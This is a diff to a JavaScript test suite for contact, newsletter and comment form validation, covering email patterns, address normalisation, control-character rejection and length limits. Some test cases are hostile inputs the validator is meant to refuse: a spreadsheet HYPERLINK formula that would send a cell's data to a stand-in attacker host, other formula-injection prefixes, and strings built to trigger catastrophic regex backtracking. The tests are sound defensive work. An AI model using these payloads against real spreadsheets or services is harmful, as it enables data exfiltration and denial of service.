@@ -3,6 +3,10 @@ import { requestMessages, validationMessages } from "../messages/index.js";
 import {
   apiResultSchema,
   characterCount,
+  commentInputSchema,
+  emailKey,
+  hasControlCharacters,
+  mailboxKey,
   contactFields,
   contactInputSchema,
   fieldErrorsOf,
@@ -232,7 +236,7 @@ describe("the locale field", () => {
 });
 
 describe("the simple email pattern", () => {
-  it("the HTML pattern attribute accepts and rejects the same values as the regex", () => {
+  it("the HTML pattern attribute agrees with the regex on ordinary values (it may be looser, never stricter)", () => {
     const html = new RegExp(`^(?:${simpleEmailHtmlPattern})$`, "v");
     for (const value of [
       "a@b.c",
@@ -242,9 +246,161 @@ describe("the simple email pattern", () => {
       "a@b.",
       "@b.c",
       "a@@b.c",
+      "a@b..c",
     ]) {
       expect(html.test(value), value).toBe(simpleEmailPattern.test(value));
     }
+    for (const value of ["élodie@exemple.fr", "o'neil+news@mail.example.co.ke"])
+      expect(html.test(value) && simpleEmailPattern.test(value), value).toBe(true);
+  });
+
+  it.each([
+    "wanjiku.mwangi@example.co.ke",
+    "o'brien@example.ie",
+    "name+news@example.com",
+    "first_last-2@sub.example.org",
+    "ÉLODIE@exemple.fr",
+    "аня@пример.рф",
+    "用户@例子.中国",
+    "_team@x.io",
+  ])("accepts a real mailbox: %s", (email) => {
+    expect(simpleEmailPattern.test(email)).toBe(true);
+    expect(newsletterInputSchema.safeParse({ email }).success).toBe(true);
+  });
+
+  it.each([
+    ['=HYPERLINK("https://evil.example/?"&A2&"@x.y","Open")'],
+    ["=1+2@x.y"],
+    ["+cmd@x.y"],
+    ["-2+3@x.y"],
+    ["@SUM(1)@x.y"],
+    ['"quoted"@x.y'],
+    ["name(comment)@x.y"],
+    ["a b@x.y"],
+    ["a\tb@x.y"],
+    ["a<b>@x.y"],
+    ["a,b@x.y"],
+    ["a;b@x.y"],
+    ["a:b@x.y"],
+    ["a|b@x.y"],
+    ["a@x_y.z"],
+    ["a@x..y"],
+    ["a@.x.y"],
+    ["a@x.y."],
+  ])("refuses what no real mailbox holds: %s", (email) => {
+    expect(simpleEmailPattern.test(email)).toBe(false);
+    expect(contactErrors({ ...validContact, email })).toEqual({ email: "Invalid email format" });
+  });
+
+  it("matches or refuses in linear time: 100,000 characters of the worst shapes take milliseconds", () => {
+    // The spec's original pattern took seconds on `a@` and dots; each of these is a shape that makes a
+    // backtracking pattern retry. Counted in steps of work, not time: the test asserts the answers, and
+    // the benchmark (apps/admin-api/bench) prints the timings.
+    for (const attack of [
+      `a@${".".repeat(100_000)}`,
+      `a@${"a.".repeat(50_000)}`,
+      `${"a".repeat(100_000)}@`,
+      `a@${"a-".repeat(50_000)}!`,
+      `${"a.".repeat(50_000)}@@`,
+    ]) {
+      expect(simpleEmailPattern.test(attack)).toBe(false);
+    }
+  });
+
+  it("an email over 254 characters is refused by its length alone: the pattern never sees it", () => {
+    const attack = `a@${".".repeat(40_000)}`;
+    const result = contactInputSchema.safeParse({ ...validContact, email: attack });
+    expect(result.success).toBe(false);
+    if (!result.success) {
+      expect(result.error.issues).toHaveLength(1);
+      expect(result.error.issues[0]).toMatchObject({ code: "too_big", path: ["email"] });
+    }
+  });
+});
+
+describe("emailKey and mailboxKey", () => {
+  it("one key however the address is spelled: trimmed, NFC, lower-cased in every script", () => {
+    expect(emailKey(" ÉLODIE@Exemple.FR ")).toBe("élodie@exemple.fr");
+    // "E" + combining acute accent (NFD) is the same person as the precomposed "É".
+    expect(emailKey("E\u0301lodie@exemple.fr")).toBe(emailKey("Élodie@exemple.fr"));
+    expect(emailKey("АНЯ@ПРИМЕР.РФ")).toBe("аня@пример.рф");
+  });
+
+  it("the mailbox drops a sub-address tag and letter case", () => {
+    expect(mailboxKey("Name+1@Example.com")).toBe("name@example.com");
+    expect(mailboxKey("name+news+more@example.com")).toBe("name@example.com");
+    expect(mailboxKey("name@example.com")).toBe("name@example.com");
+    expect(mailboxKey("+@x.y")).toBe("@x.y");
+  });
+
+  it("the newsletter stores the address by its key", () => {
+    expect(newsletterInputSchema.parse({ email: "E\u0301LODIE@Exemple.fr" }).email).toBe(
+      "élodie@exemple.fr",
+    );
+  });
+});
+
+describe("free text of every form", () => {
+  const controls = ["\u0000", "\u0007", "\u000B", "\u001B", "\u007F", "\u0085", "\u009F"];
+
+  it.each(controls.map((c) => [JSON.stringify(c), c]))(
+    "refuses the control character %s in every free-text field, with the catalogue's message",
+    (_label, control) => {
+      expect(
+        contactErrors({
+          ...validContact,
+          name: `Wan${control}jiku`,
+          phone: `+254${control}712`,
+          subject: `Plan${control}B`,
+          description: `Hello${control}there`,
+        }),
+      ).toEqual({
+        name: requestMessages.controlCharacters,
+        phone: requestMessages.controlCharacters,
+        subject: requestMessages.controlCharacters,
+        description: requestMessages.controlCharacters,
+      });
+      const comment = commentInputSchema.safeParse({
+        name: `A${control}B`,
+        email: "a@b.co",
+        comment: `Nice${control} post`,
+        post: "a-post",
+        page: `/blog${control}/x`,
+      });
+      expect(comment.success).toBe(false);
+      if (!comment.success)
+        expect(fieldErrorsOf(comment.error)).toEqual({
+          name: requestMessages.controlCharacters,
+          comment: requestMessages.controlCharacters,
+          page: requestMessages.controlCharacters,
+        });
+      expect(hasControlCharacters(control)).toBe(true);
+    },
+  );
+
+  it("keeps line breaks and tabs, which people type", () => {
+    expect(
+      contactInputSchema.parse({ ...validContact, description: "Line one\r\n\tLine two" })
+        .description,
+    ).toBe("Line one\r\n\tLine two");
+  });
+
+  it("stores text in Unicode NFC, so one word is one spelling", () => {
+    const parsed = contactInputSchema.parse({ ...validContact, name: "Jose\u0301 Ngu\u0303" });
+    expect(parsed.name).toBe("José Ngũ");
+    expect(parsed.name).toBe(parsed.name.normalize("NFC"));
+  });
+
+  it("a value far over its limit is answered by the length rule alone", () => {
+    const result = contactInputSchema.safeParse({
+      ...validContact,
+      description: `${"\u0000".repeat(60_000)}https://a.example `.repeat(3),
+    });
+    expect(result.success).toBe(false);
+    if (!result.success)
+      expect(fieldErrorsOf(result.error)).toEqual({
+        description: requestMessages.tooLong(fieldLimits.description),
+      });
   });
 });
 
